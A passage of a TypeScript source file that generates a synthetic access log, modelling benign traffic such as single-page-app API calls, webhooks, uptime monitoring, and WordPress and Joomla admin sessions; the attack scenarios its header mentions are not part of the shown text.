/**
 * More scenario families for the synthetic log (see generate.ts): the machine-driven and privileged traffic
 * real sites get and must never ban (single-page apps, webhooks, monitoring fleets, CMS editors, sync
 * clients, shoppers, apps, CI, link previews, the site's own infrastructure), and attacks as they come in
 * real logs (exploit strings in headers, single-shot and worm exploits, a scanner alone on a server, floods
 * that look like browsers, exploits hidden in browsing, WordPress XML-RPC and API token brute force).
 *
 * Every family draws its sizes, rates, paths and agents from ranges with the world's seeded randomness, and
 * every stream it adds yields its requests in time order within the day.
 */
import { BROWSERS, DAY, MOBILE, WORDS, hour, type ActorLabel, type Family, type Request, type World } from './world.js';

const second = 1000;
const minute = 60_000;

/** The end of the day the log covers: no family writes past it. */
const end = (w: World): number => w.start + DAY;

/** A time of day people are about: mostly between `from` and `to` o'clock (local time), some at any hour till 22:00. */
function awake(w: World, from = 7, to = 23): number {
  const h = w.rand() < 0.88 ? from + w.rand() * (to - from) : w.rand() * 22;
  return w.start + Math.floor(h * hour);
}

const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';

/** n random characters of `alphabet` (a build hash, a token, a nonce). */
function chars(w: World, n: number, alphabet = ALNUM): string {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(w.rand() * alphabet.length)]!;
  return s;
}

const hex = (w: World, n: number): string => chars(w, n, '0123456789abcdef');

function req(time: number, method: string, target: string, status: number, bytes: number, referer: string, agent: string): Request {
  return { time, method, target, status, bytes, referer, agent };
}

/**
 * A page and the assets it pulls: the document, then each asset within a few hundred milliseconds, referred by
 * the page. `seen` holds what the browser has cached already: those are mostly not asked for again (immutable,
 * versioned URLs), now and then revalidated with a 304.
 */
function pageLoad(
  w: World,
  t: number,
  agent: string,
  target: string,
  referer: string,
  assets: readonly string[],
  seen: Set<string>,
  opts: { status?: number; bytes?: [number, number] } = {},
): Request[] {
  const [lo, hi] = opts.bytes ?? [4000, 60000];
  const out = [req(t, 'GET', target, opts.status ?? 200, w.int(lo, hi), referer, agent)];
  for (const a of assets) {
    const cached = seen.has(a);
    if (cached && w.rand() < 0.95) continue;
    // Fetched in parallel as the page is parsed: a few milliseconds apart.
    t += w.int(2, 150);
    out.push(req(t, 'GET', a, cached ? 304 : 200, cached ? 0 : w.int(300, 180000), `${w.site}${target}`, agent));
    seen.add(a);
  }
  return out;
}

/**
 * Streams behind one address (an office or carrier NAT, a proxy): the log shows the one address, labelled once.
 */
function behind(w: World, address: string, label: ActorLabel, family: string, streams: Iterable<Generator<Request>>): void {
  for (const s of streams) w.streams.push([{ address, label, family }, s]);
  w.add(label, (function* () {})(), { address, family });
}

/**
 * The server's error pages: one size for each status, as a web server answers every 404 with the same page
 * (Apache 2.2's also echoes the path, so some servers' 404 grows with it).
 */
function errorPages(w: World): (status: number, target: string) => number {
  const sizes = new Map<number, number>();
  const echoes = w.rand() < 0.3;
  return (status, target) => {
    if (!sizes.has(status)) sizes.set(status, w.int(150, 560));
    return sizes.get(status)! + (echoes && status === 404 ? target.split('?')[0]!.length : 0);
  };
}

/** A copy of `xs` in a random order. */
function shuffle<T>(w: World, xs: readonly T[]): T[] {
  const out = [...xs];
  for (let i = out.length - 1; i > 0; i--) {
    const j = Math.floor(w.rand() * (i + 1));
    [out[i], out[j]] = [out[j]!, out[i]!];
  }
  return out;
}

/** Requests sorted by time (for a stream drawn out of order, as events sent from a pool of addresses). */
function* inOrder(list: Request[]): Generator<Request> {
  list.sort((a, b) => a.time - b.time);
  yield* list;
}

// ---------------------------------------------------------------------------------------------------------
// Benign: single-page apps, webhooks, monitoring fleets.

const spaApi: Family = {
  name: 'spa-api',
  attack: false,
  description:
    'single-page-app users: the app shell and its assets, then the browser calling a JSON API (REST or GraphQL) many times a minute while active, now and then a 401 and a token refresh',
  add(w, size) {
    const users = Math.max(3, Math.round(w.int(15, 60) * size));
    const graphql = w.rand() < 0.35;
    const mount = w.pick(['/app', '/dashboard', '/console', '/workspace']);
    const api = w.pick(['/api/v1', '/api/v2', '/api']);
    const refresh = w.pick(['/api/auth/refresh', '/api/auth/token/refresh', '/auth/refresh']);
    const assets = [
      `/assets/index-${chars(w, 8)}.js`,
      `/assets/vendor-${chars(w, 8)}.js`,
      `/assets/index-${chars(w, 8)}.css`,
      '/assets/inter-latin-400-normal.woff2',
      '/favicon.svg',
      '/manifest.webmanifest',
    ];
    const tokenLife = w.pick([5, 15, 15, 30, 60]) * minute;
    const proactive = w.rand() < 0.4;
    const sections = ['projects', 'tasks', 'reports', 'team', 'settings', 'inbox', 'calendar'];
    const ops = ['GetViewer', 'ListProjects', 'ProjectBoard', 'TaskDetails', 'Notifications', 'SearchTasks', 'UpdateTask', 'CreateComment', 'MoveCard'];
    const persisted = new Map(ops.map((op) => [op, hex(w, 64)]));
    const terms = [...WORDS, 'invoice', 'roadmap', 'release', 'onboarding', 'budget'];
    for (let u = 0; u < users; u++) {
      const agent = w.rand() < 0.15 ? w.pick(MOBILE) : w.pick(BROWSERS);
      const sessions = w.int(1, 4);
      const background = w.rand() < 0.3;
      const s = function* (): Generator<Request> {
        let t = awake(w, 7, 21);
        let expires = 0;
        let route = `${mount}/${w.pick(sections)}`;
        const seen = new Set<string>();
        const ref = () => `${w.site}${route}`;
        // One API call; with an expired access token: a 401, the refresh, then the call again.
        const call = (method: string, target: string, status: number, bytes: number): Request[] => {
          const out: Request[] = [];
          // Some apps refresh a little before the token runs out; the others find out from a 401.
          if (t >= expires - (proactive ? 20 * second : 0)) {
            if (expires > 0 && !proactive) {
              out.push(req(t, method, target, 401, w.int(40, 120), ref(), agent));
              t += w.int(30, 250);
            }
            out.push(req(t, 'POST', refresh, 200, w.int(350, 900), ref(), agent));
            expires = t + tokenLife;
            t += w.int(40, 300);
          }
          out.push(req(t, method, target, status, bytes, ref(), agent));
          return out;
        };
        const query = (op: string, id = 0): Request[] => {
          if (!graphql) return [];
          if (w.rand() < 0.3) {
            const vars = id ? `%7B%22id%22%3A%22${id}%22%7D` : '%7B%7D';
            const ext = `%7B%22persistedQuery%22%3A%7B%22version%22%3A1%2C%22sha256Hash%22%3A%22${persisted.get(op)}%22%7D%7D`;
            return call('GET', `/graphql?operationName=${op}&variables=${vars}&extensions=${ext}`, 200, w.int(300, 24000));
          }
          return call('POST', '/graphql', 200, w.int(200, 30000));
        };
        const poll = (): Request[] => (graphql ? query('Notifications') : call('GET', `${api}/notifications/count`, w.rand() < 0.7 ? 200 : 304, w.int(20, 60)));
        // What one user action sends: a route change, a typeahead, an edit, more of a list.
        const action = (): Request[] => {
          const out: Request[] = [];
          const r = w.rand();
          const id = w.int(1000, 99999);
          if (r < 0.35) {
            route = `${mount}/${w.pick(sections)}${w.rand() < 0.5 ? `/${id}` : ''}`;
            for (let k = w.int(2, 5); k > 0; k--) {
              if (graphql) out.push(...query(w.pick(ops.slice(0, 6)), id));
              else
                out.push(
                  ...call(
                    'GET',
                    w.pick([
                      `${api}/projects/${id}`,
                      `${api}/projects/${id}/tasks?page=1&limit=50`,
                      `${api}/tasks/${id}/comments`,
                      `${api}/users?team=${id % 97}`,
                    ]),
                    w.rand() < 0.01 ? 404 : w.rand() < 0.15 ? 304 : 200,
                    w.int(400, 40000),
                  ),
                );
              t += w.int(5, 200);
            }
          } else if (r < 0.55) {
            const word = w.pick(terms);
            const typed = Math.min(word.length, w.int(3, 9));
            for (let n = 2; n <= typed; n++) {
              out.push(...(graphql ? query('SearchTasks') : call('GET', `${api}/search?q=${word.slice(0, n)}&limit=10`, 200, w.int(200, 6000))));
              t += w.int(150, 500);
            }
          } else if (r < 0.85) {
            const write = w.pick([
              ['PATCH', `${api}/tasks/${id}`, 200],
              ['POST', `${api}/tasks/${id}/comments`, 201],
              ['POST', `${api}/projects/${id}/tasks`, 201],
              ['DELETE', `${api}/tasks/${id}`, 204],
              ['PUT', `${api}/users/me/preferences`, 204],
              ['POST', `${api}/uploads`, 201],
            ] as const);
            const status = w.rand() < 0.015 ? w.pick([409, 422]) : write[2];
            if (graphql) out.push(...query(w.pick(ops.slice(6)), id));
            else out.push(...call(write[0], write[1], status, status === 204 ? 0 : w.int(80, 3000)));
            t += w.int(50, 400);
            if (!graphql) out.push(...call('GET', `${api}/projects/${id % 500}/tasks?page=1&limit=50`, 200, w.int(2000, 40000)));
            if (w.rand() < 0.4) out.push(...call('POST', `${api}/telemetry`, 204, 0));
          } else {
            for (let k = w.int(1, 4); k > 0; k--) {
              out.push(...(graphql ? query('ProjectBoard', id) : call('GET', `${api}/activity?before=${id}&limit=25`, 200, w.int(1000, 20000))));
              t += w.int(500, 3000);
            }
          }
          return out;
        };
        for (let n = 0; n < sessions && t < end(w); n++) {
          const entry = w.pick(['-', '-', `${w.site}/`, 'https://www.google.com/', `${w.site}/login`]);
          const load = pageLoad(w, t, agent, route, entry, assets, seen, { bytes: [1200, 3600] });
          yield* load;
          t = load[load.length - 1]!.time + w.int(150, 1200);
          for (const op of graphql
            ? ['GetViewer', 'ListProjects', 'Notifications']
            : ['users/me', 'config', 'projects?limit=50', 'notifications?unread=true']) {
            yield* graphql ? query(op) : call('GET', `${api}/${op}`, 200, w.int(150, 20000));
            t += w.int(10, 250);
          }
          const stop = t + w.int(5, 150) * minute;
          let nextPoll = t + 30 * second;
          while (t < stop && t < end(w)) {
            const gap = w.rand() < 0.85 ? w.int(2, 40) * second : w.int(1, 8) * minute;
            const until = t + gap;
            while (nextPoll < until) {
              t = Math.max(t, nextPoll);
              yield* poll();
              nextPoll += 30 * second + w.int(0, 500);
            }
            t = Math.max(t, until);
            yield* action();
          }
          // Left open in a background tab: the browser lets the poll run once a minute.
          const idle = background ? t + w.int(30, 360) * minute : t;
          for (t = Math.max(t, nextPoll); t < idle && t < end(w); t += minute + w.int(0, 1500)) yield* poll();
          t += w.int(20, 300) * minute;
        }
      };
      w.add('spa', s(), { v6: w.rand() < 0.15, family: 'spa-api' });
    }
  },
};

/** Webhook senders: the agent they send, the one path they post to, how they answer a success. */
const SENDERS: ReadonlyArray<{ agent: (w: World) => string; path: string; ok: number; retries: boolean }> = [
  { agent: () => 'Stripe/1.0 (+https://stripe.com/docs/webhooks)', path: '/webhooks/stripe', ok: 200, retries: true },
  { agent: (w) => `GitHub-Hookshot/${hex(w, 7)}`, path: '/hooks/github', ok: 204, retries: false },
  { agent: () => 'Slackbot 1.0 (+https://api.slack.com/robots)', path: '/slack/events', ok: 200, retries: true },
  { agent: () => 'Shopify-Captain-Hook', path: '/webhooks/shopify', ok: 200, retries: true },
  { agent: () => 'TwilioProxy/1.1', path: '/twilio/status-callback', ok: 204, retries: true },
  { agent: (w) => `GitLab/16.${w.int(5, 11)}.${w.int(0, 4)}`, path: '/hooks/gitlab', ok: 200, retries: false },
  { agent: () => 'PayPal IPN ( https://www.paypal.com/ipn )', path: '/ipn/paypal', ok: 200, retries: true },
  { agent: () => 'Bitbucket-Webhooks/2.0', path: '/hooks/bitbucket', ok: 204, retries: false },
];

const webhooks: Family = {
  name: 'webhooks',
  attack: false,
  description:
    'payment, code-hosting and chat webhooks, each sender from a pool of addresses: hundreds of POSTs a day to one path, in bursts, the odd 500 retried later',
  add(w, size) {
    const senders = shuffle(w, SENDERS).slice(0, w.int(2, 4));
    // A deploy or an overloaded app: a few minutes in which every hook is answered 502 or 500.
    const outage = w.start + w.int(1, 22) * hour + w.int(0, 59) * minute;
    const outageEnd = outage + w.int(1, 6) * minute;
    for (const sender of senders) {
      const agent = sender.agent(w);
      const nets = Array.from({ length: w.int(1, 2) }, () => w.net());
      const pool = Array.from({ length: w.int(2, 10) }, () => w.address(false, w.pick(nets)));
      const events: number[] = [];
      // Steady events through the day, busier in the daytime.
      for (let n = Math.round(w.int(100, 700) * Math.max(0.3, size)); n > 0; n--) events.push(awake(w, 6, 23));
      // Bursts: renewals at a fixed hour, a release pushed to many repositories, an SMS campaign.
      for (let b = w.int(1, 5); b > 0; b--) {
        const at = w.start + w.int(0, 23) * hour + w.int(0, 59) * minute;
        const spread = w.int(1, 12) * minute;
        for (let n = w.int(20, 300); n > 0; n--) events.push(at + Math.floor(w.rand() * w.rand() * spread));
      }
      const byAddress = new Map<string, Request[]>(pool.map((a) => [a, []]));
      for (const at of events) {
        let t = at;
        for (let attempt = 0; attempt < 6 && t < end(w); attempt++) {
          const down = t >= outage && t < outageEnd;
          const failed = down || w.rand() < 0.01;
          const status = failed ? (down ? w.pick([502, 502, 500, 503]) : w.rand() < 0.8 ? 500 : 400) : sender.ok;
          const bytes = status === 204 ? 0 : status >= 500 ? w.int(150, 600) : w.int(2, 40);
          byAddress.get(w.pick(pool))!.push(req(t, 'POST', sender.path, status, bytes, '-', agent));
          if (!failed || !sender.retries || status === 400) break;
          // Retried with backoff, from whichever address of the pool sends it.
          t += Math.round(w.int(20, 120) * second * 2 ** attempt * (1 + w.rand()));
        }
      }
      for (const [address, list] of byAddress) if (list.length) w.add('webhook', inOrder(list), { address, family: 'webhooks' });
    }
  },
};

const FLEETS: readonly string[] = [
  'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
  'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)',
  'Mozilla/5.0 (compatible; StatusCake)',
  'Site24x7',
  'Better Uptime Bot Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36',
  'Checkly/1.0 (https://www.checklyhq.com)',
  'Datadog/Synthetics',
  'Mozilla/5.0 (compatible; Freshping/1.0; +https://www.freshworks.com/website-monitoring/)',
];

const monitoringFleet: Family = {
  name: 'monitoring-fleet',
  attack: false,
  description:
    'one uptime service checking from 10-25 regions in several networks: each region fetches / and a health URL once a minute all day, one agent for all',
  add(w) {
    const agent = w.pick(FLEETS);
    const health = w.pick(['/health', '/status', '/healthz', '/api/health', '/-/health']);
    const healthMethod = w.rand() < 0.4 ? 'HEAD' : 'GET';
    const nets = Array.from({ length: w.int(3, 8) }, () => w.net());
    const pageBytes = w.int(15000, 70000);
    // Incidents the whole fleet sees at once: a few minutes of 502/503/504.
    const incidents = Array.from({ length: w.int(0, 3) }, () => {
      const at = w.start + w.int(0, 23) * hour + w.int(0, 59) * minute;
      return [at, at + w.int(2, 9) * minute, w.pick([502, 503, 504])] as const;
    });
    const down = (t: number) => incidents.find(([a, b]) => t >= a && t < b)?.[2];
    for (let r = 0, regions = w.int(10, 25); r < regions; r++) {
      const offset = w.int(0, 59_000);
      const s = function* (): Generator<Request> {
        for (let t = w.start + offset; t < end(w); t += minute + w.int(-800, 800)) {
          const bad = down(t);
          yield req(t, 'GET', '/', bad ?? 200, bad ? w.int(150, 600) : pageBytes + w.int(-400, 400), '-', agent);
          const h = t + w.int(50, 3000);
          yield req(h, healthMethod, health, bad ? 503 : 200, healthMethod === 'HEAD' || bad ? 0 : w.int(15, 120), '-', agent);
        }
      };
      w.add('monitor', s(), { v6: w.rand() < 0.2, net: w.rand() < 0.8 ? w.pick(nets) : undefined, family: 'monitoring-fleet' });
    }
  },
};

// ---------------------------------------------------------------------------------------------------------
// Benign: the site's own editors (WordPress, Joomla).

/** The scripts of the WordPress block editor, each asked for on its own with its content hash. */
const WP_DIST = [
  'hooks',
  'i18n',
  'url',
  'api-fetch',
  'blob',
  'autop',
  'block-serialization-default-parser',
  'deprecated',
  'dom',
  'escape-html',
  'element',
  'is-shallow-equal',
  'keycodes',
  'priority-queue',
  'compose',
  'private-apis',
  'redux-routine',
  'data',
  'html-entities',
  'shortcode',
  'blocks',
  'dom-ready',
  'a11y',
  'rich-text',
  'components',
  'keyboard-shortcuts',
  'notices',
  'preferences',
  'commands',
  'block-editor',
  'core-data',
  'media-utils',
  'editor',
  'edit-post',
  'block-library',
  'format-library',
  'plugins',
  'wordcount',
];

/** Heartbeat: every 15 s on the post editor, 60 s on other admin screens, 120 s while the tab is in the background. */
function heartbeats(w: World, from: number, to: number, every: number, referer: string, agent: string, action = '/wp-admin/admin-ajax.php'): Request[] {
  const out: Request[] = [];
  let blurred = false;
  let change = from + w.int(1, 20) * minute;
  for (let t = from + every + w.int(0, 2000); t < to;) {
    out.push(req(t, 'POST', action, 200, w.int(60, 420), referer, agent));
    if (t >= change) {
      blurred = !blurred && w.rand() < 0.35;
      change = t + w.int(1, 25) * minute;
    }
    t += (blurred ? 120 * second : every) + w.int(0, 1500);
  }
  return out;
}

const wpAdmins: Family = {
  name: 'wp-admins',
  attack: false,
  description:
    "a WordPress site's editors: one login, admin pages with their assets, the block or classic editor with autosaves, and the Heartbeat POST every 15-60 s for hours (and the site's own wp-cron loopback)",
  add(w, size) {
    const ver = w.pick(['6.4.3', '6.5.2', '6.5.5', '6.6.1']);
    const site = w.site;
    const dist = new Map(WP_DIST.map((n) => [n, `/wp-includes/js/dist/${n}.min.js?ver=${hex(w, 20)}`]));
    const login = [
      `/wp-admin/load-styles.php?c=0&dir=ltr&load%5Bchunk_0%5D=dashicons,buttons,forms,l10n,login&ver=${ver}`,
      '/wp-admin/images/wordpress-logo.svg?ver=20131107',
      '/wp-includes/js/jquery/jquery.min.js?ver=3.7.1',
      '/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1',
      dist.get('hooks')!,
      dist.get('i18n')!,
      '/wp-includes/js/underscore.min.js?ver=1.13.4',
      `/wp-includes/js/wp-util.min.js?ver=${ver}`,
      `/wp-admin/js/password-strength-meter.min.js?ver=${ver}`,
      `/wp-admin/js/user-profile.min.js?ver=${ver}`,
    ];
    const admin = [
      `/wp-admin/load-styles.php?c=0&dir=ltr&load%5Bchunk_0%5D=dashicons,admin-bar,common,forms,admin-menu,dashboard,list-tables,edit,revisions,media,themes,about,nav-menus,wp-pointer,widgets&load%5Bchunk_1%5D=,site-icon,l10n,buttons,wp-auth-check&ver=${ver}`,
      `/wp-admin/load-scripts.php?c=0&load%5Bchunk_0%5D=jquery-core,jquery-migrate,utils&ver=${ver}`,
      `/wp-includes/css/dist/block-library/common.min.css?ver=${ver}`,
      `/wp-content/plugins/wordpress-seo/css/dist/adminbar-${w.int(2100, 2300)}.css?ver=22.${w.int(0, 9)}`,
      `/wp-admin/load-scripts.php?c=0&load%5Bchunk_0%5D=hoverIntent,common,admin-bar,svg-painter,heartbeat,wp-auth-check&ver=${ver}`,
      '/wp-admin/images/wpspin_light-2x.gif',
      `/wp-content/plugins/wordpress-seo/js/dist/dashboard-widget.js?ver=22.${w.int(0, 9)}`,
    ];
    const blockEditor = [
      ...admin.slice(0, 3),
      '/wp-includes/js/dist/vendor/wp-polyfill.min.js?ver=3.15.0',
      '/wp-includes/js/dist/vendor/react.min.js?ver=18.2.0',
      '/wp-includes/js/dist/vendor/react-dom.min.js?ver=18.2.0',
      '/wp-includes/js/dist/vendor/lodash.min.js?ver=4.17.21',
      '/wp-includes/js/dist/vendor/moment.min.js?ver=2.29.4',
      ...dist.values(),
      ...['components', 'block-editor', 'editor', 'edit-post', 'block-library', 'format-library', 'commands', 'preferences'].map(
        (n) => `/wp-includes/css/dist/${n}/style.min.css?ver=${ver}`,
      ),
    ];
    const classicEditor = [
      ...admin,
      `/wp-includes/js/tinymce/tinymce.min.js?ver=49110-20201110`,
      `/wp-includes/js/tinymce/plugins/compat3x/plugin.min.js?ver=49110-20201110`,
      `/wp-includes/js/tinymce/skins/lightgray/skin.min.css?ver=49110-20201110`,
      `/wp-includes/css/editor.min.css?ver=${ver}`,
      `/wp-admin/load-scripts.php?c=0&load%5Bchunk_0%5D=word-count,editor,quicktags,wplink,jquery-ui-autocomplete,media-upload,wp-embed,media-editor&ver=${ver}`,
    ];
    const front = [
      '/wp-content/themes/astra/assets/css/minified/main.min.css?ver=4.6.4',
      `/wp-includes/css/dashicons.min.css?ver=${ver}`,
      `/wp-includes/css/admin-bar.min.css?ver=${ver}`,
    ];
    const rest = (p: string) => `/wp-json/wp/v2/${p}${p.includes('?') ? '&' : '?'}_locale=user`;
    const screens = [
      '/wp-admin/edit.php',
      '/wp-admin/edit.php?post_type=page',
      '/wp-admin/edit.php?post_status=draft&post_type=post',
      '/wp-admin/upload.php',
      '/wp-admin/edit-comments.php',
      '/wp-admin/edit-comments.php?comment_status=moderated',
      '/wp-admin/plugins.php',
      '/wp-admin/users.php',
      '/wp-admin/options-general.php',
      '/wp-admin/admin.php?page=wpseo_dashboard',
      '/wp-admin/edit-tags.php?taxonomy=category',
      '/wp-admin/nav-menus.php',
    ];
    for (let e = 0, editors = Math.max(1, Math.round(w.int(1, 5) * size)); e < editors; e++) {
      const agent = w.pick([BROWSERS[0]!, BROWSERS[1]!, BROWSERS[2]!, BROWSERS[5]!]);
      const gutenberg = w.rand() < 0.75;
      const sessions = w.int(1, 3);
      const rememberMe = w.rand() < 0.5;
      const s = function* (): Generator<Request> {
        let t = awake(w, 8, 19);
        const seen = new Set<string>();
        for (let n = 0; n < sessions && (n === 0 || t < end(w) - hour); n++) {
          const stop = Math.min(end(w) - 5 * minute, t + w.int(20, 360) * minute);
          const out: Request[] = [];
          const push = (r: Request[]) => {
            out.push(...r);
            t = r[r.length - 1]!.time;
          };
          if (n === 0 && !rememberMe) {
            // The login: the form, the odd wrong password (the form again, with the error), then a 302.
            push([req(t, 'GET', '/wp-admin/', 302, 0, '-', agent)]);
            const form = `/wp-login.php?redirect_to=${encodeURIComponent(`${site}/wp-admin/`)}&reauth=1`;
            push(pageLoad(w, t + w.int(100, 400), agent, form, '-', login, seen, { bytes: [4200, 5200] }));
            if (w.rand() < 0.15) push([req(t + w.int(6, 25) * second, 'POST', '/wp-login.php', 200, w.int(5300, 5600), site + form, agent)]);
            push([req(t + w.int(4, 20) * second, 'POST', '/wp-login.php', 302, 0, site + form, agent)]);
          }
          let here = '/wp-admin/';
          push(pageLoad(w, t + w.int(200, 900), agent, here, n === 0 && !rememberMe ? `${site}/wp-login.php` : '-', admin, seen, { bytes: [60000, 110000] }));
          push([req(t + w.int(300, 1500), 'POST', '/wp-admin/admin-ajax.php', 200, w.int(2000, 9000), site + here, agent)]);
          while (t < stop) {
            const referer = site + here;
            const editing = w.rand() < 0.45;
            const post = w.int(12, 4800);
            const length = editing ? w.int(4, 90) * minute : w.int(10, 300) * second;
            const from = t + w.int(1, 4) * second;
            const until = Math.min(stop, from + length);
            const screen: Request[] = [];
            if (editing) {
              here = w.rand() < 0.85 ? `/wp-admin/post.php?post=${post}&action=edit` : '/wp-admin/post-new.php';
              screen.push(...pageLoad(w, from, agent, here, referer, gutenberg ? blockEditor : classicEditor, seen, { bytes: [70000, 160000] }));
              let at = screen[screen.length - 1]!.time;
              if (gutenberg)
                for (const p of [
                  'types?context=view',
                  'taxonomies?context=view',
                  'categories?context=view&per_page=100&_fields=id%2Cname%2Cparent',
                  'users?context=view&who=authors&per_page=50&_fields=id%2Cname',
                  'blocks?context=edit&per_page=100',
                  'block-patterns/categories',
                  'block-patterns/patterns',
                  'settings',
                ])
                  screen.push(req((at += w.int(20, 300)), 'GET', rest(p), 200, w.int(300, 60000), site + here, agent));
              if (gutenberg) screen.push(req(at + w.int(50, 300), 'OPTIONS', rest(`posts/${post}`), 200, w.int(800, 1600), site + here, agent));
              // Typing: an autosave about once a minute, the link picker's search, an image now and then.
              for (let m = from + minute; m < until; m += minute + w.int(0, 20) * second) {
                const r = w.rand();
                if (gutenberg && r < 0.55) screen.push(req(m, 'POST', rest(`posts/${post}/autosaves`), 200, w.int(1800, 5000), site + here, agent));
                else if (gutenberg && r < 0.62) {
                  const word = w.pick(WORDS);
                  for (let k = 2, a = m; k <= word.length; k++, a += w.int(200, 600))
                    screen.push(
                      req(a, 'GET', rest(`search?search=${word.slice(0, k)}&per_page=20&type=post&subtype=any`), 200, w.int(200, 4000), site + here, agent),
                    );
                } else if (r < 0.66) {
                  const upload = gutenberg ? rest('media') : '/wp-admin/async-upload.php';
                  screen.push(req(m, 'POST', upload, gutenberg ? 201 : 200, w.int(1200, 4000), site + here, agent));
                  const img = `/wp-content/uploads/2026/03/img_${w.int(1000, 9999)}-1024x683.jpg`;
                  screen.push(req(m + w.int(400, 2000), 'GET', img, 200, w.int(60000, 240000), site + here, agent));
                }
              }
              // Saved, and sometimes previewed on the front end (with the admin bar).
              const saved = until - w.int(1, 10) * second;
              if (gutenberg) screen.push(req(saved, 'POST', rest(`posts/${post}`), 200, w.int(3000, 9000), site + here, agent));
              else {
                screen.push(req(saved, 'POST', '/wp-admin/post.php', 302, 0, site + here, agent));
                screen.push(req(saved + w.int(150, 600), 'GET', `${here}&message=1`, 200, w.int(70000, 150000), site + here, agent));
              }
              if (w.rand() < 0.3) screen.push(...pageLoad(w, saved + w.int(2, 8) * second, agent, `/?p=${post}&preview=true`, site + here, front, seen));
              screen.push(...heartbeats(w, from, until, 15 * second, site + here, agent));
            } else {
              here = w.pick(screens);
              screen.push(...pageLoad(w, from, agent, here, referer, admin, seen, { bytes: [30000, 140000] }));
              if (here === '/wp-admin/upload.php')
                for (let k = w.int(1, 4), a = from + 800; k > 0; k--, a += w.int(1, 6) * second)
                  screen.push(req(a, 'POST', '/wp-admin/admin-ajax.php', 200, w.int(20000, 90000), site + here, agent));
              screen.push(...heartbeats(w, from, until, 60 * second, site + here, agent));
            }
            push([...inOrder(screen)]);
            t = Math.max(t, until);
          }
          if (w.rand() < 0.25) {
            push([req(t + w.int(1, 5) * second, 'GET', `/wp-login.php?action=logout&_wpnonce=${hex(w, 10)}`, 302, 0, site + here, agent)]);
            push([req(t + w.int(100, 500), 'GET', '/wp-login.php?loggedout=true&wp_lang=en_US', 200, w.int(4200, 5200), site + here, agent)]);
          }
          yield* out;
          t += w.int(30, 300) * minute;
        }
      };
      w.add('admin', s(), { v6: w.rand() < 0.15, family: 'wp-admins' });
    }
    // The site itself: WordPress's cron, fired by page views at most once a minute, or a system cron job.
    const self = w.rand() < 0.6 ? `WordPress/${ver}; ${site}` : w.pick(['curl/7.81.0', 'Wget/1.21.2']);
    const s = function* (): Generator<Request> {
      for (let t = w.start + w.int(0, 300) * second; t < end(w);) {
        const h = (t - w.start) / hour;
        if (self.startsWith('WordPress')) {
          // PHP's sprintf('%.22F', microtime(true)).
          const at = `${Math.floor(t / 1000)}.${String(t % 1000).padStart(3, '0')}${chars(w, 3, '0123456789')}${'0'.repeat(16)}`;
          yield req(t, 'POST', `/wp-cron.php?doing_wp_cron=${at}`, 200, 0, '-', self);
          t += (h >= 7 && h < 23 ? w.int(60, 180) : w.int(60, 1500)) * second + w.int(0, 999);
        } else {
          yield req(t, 'GET', '/wp-cron.php', 200, 0, '-', self);
          t += 5 * minute + w.int(0, 800);
        }
      }
    };
    w.add('self', s(), { family: 'wp-admins' });
  },
};

const joomlaAdmin: Family = {
  name: 'joomla-admin',
  attack: false,
  description:
    'Joomla administrators: the /administrator/ login, the control panel and its update checks, com_* list and edit views with their assets, saves answered 303, the keepalive',
  add(w, size) {
    const mv = hex(w, 32);
    const site = w.site;
    const base = [
      `/media/templates/administrator/atum/css/template.min.css?${mv}`,
      `/media/system/css/joomla-fontawesome.min.css?${mv}`,
      `/media/vendor/bootstrap/js/bootstrap-es5.min.js?5.3.2`,
      `/media/system/js/core.min.js?${mv}`,
      `/media/system/js/messages-es5.min.js?${mv}`,
      `/media/system/js/keepalive.min.js?${mv}`,
      `/media/templates/administrator/atum/js/template.min.js?${mv}`,
      '/media/vendor/fontawesome-free/webfonts/fa-solid-900.woff2',
      '/media/templates/administrator/atum/images/logos/brand-small.svg',
    ];
    const loginAssets = [...base, `/media/system/js/fields/passwordview.min.js?${mv}`, '/media/templates/administrator/atum/images/logos/login.svg'];
    const listAssets = [
      ...base,
      `/media/system/js/multiselect.min.js?${mv}`,
      `/media/system/js/table-columns.min.js?${mv}`,
      `/media/vendor/choicesjs/js/choices.min.js?10.2.0`,
    ];
    const editAssets = [
      ...base,
      '/media/vendor/tinymce/tinymce.min.js?6.8.2',
      `/media/plg_editors_tinymce/js/tinymce.min.js?${mv}`,
      '/media/vendor/tinymce/skins/ui/oxide/skin.min.css',
      '/media/vendor/tinymce/skins/ui/oxide/content.min.css',
      ...['link', 'image', 'lists', 'table', 'code', 'media', 'searchreplace', 'autolink'].map((p) => `/media/vendor/tinymce/plugins/${p}/plugin.min.js`),
      `/media/system/js/fields/joomla-field-media.min.js?${mv}`,
      `/media/system/js/fields/calendar.min.js?${mv}`,
    ];
    const views = [
      'com_content&view=articles',
      'com_content&view=featured',
      'com_categories&view=categories&extension=com_content',
      'com_media',
      'com_menus&view=items&menutype=mainmenu',
      'com_modules&view=modules&client_id=0',
      'com_users&view=users',
      'com_config',
      'com_installer&view=update',
      'com_plugins&view=plugins',
      'com_templates&view=styles&client_id=0',
    ];
    const admin = '/administrator/index.php';
    for (let a = 0, admins = Math.max(1, Math.round(w.int(1, 3) * size)); a < admins; a++) {
      const agent = w.pick([BROWSERS[0]!, BROWSERS[1]!, BROWSERS[2]!, BROWSERS[5]!]);
      const sessions = w.int(1, 3);
      const s = function* (): Generator<Request> {
        let t = awake(w, 8, 20);
        const seen = new Set<string>();
        for (let n = 0; n < sessions && (n === 0 || t < end(w) - hour); n++) {
          const stop = Math.min(end(w) - hour, t + w.int(10, 180) * minute);
          // Joomla's form token, one for the session.
          const token = hex(w, 32);
          const out: Request[] = [];
          const push = (...r: Request[]) => {
            out.push(...r);
            t = r[r.length - 1]!.time;
          };
          push(...pageLoad(w, t, agent, '/administrator/', '-', loginAssets, seen, { bytes: [5200, 6400] }));
          if (w.rand() < 0.12) {
            push(req(t + w.int(6, 30) * second, 'POST', admin, 303, 0, `${site}/administrator/`, agent));
            push(...pageLoad(w, t + w.int(100, 400), agent, admin, `${site}/administrator/`, loginAssets, seen, { bytes: [5600, 6800] }));
          }
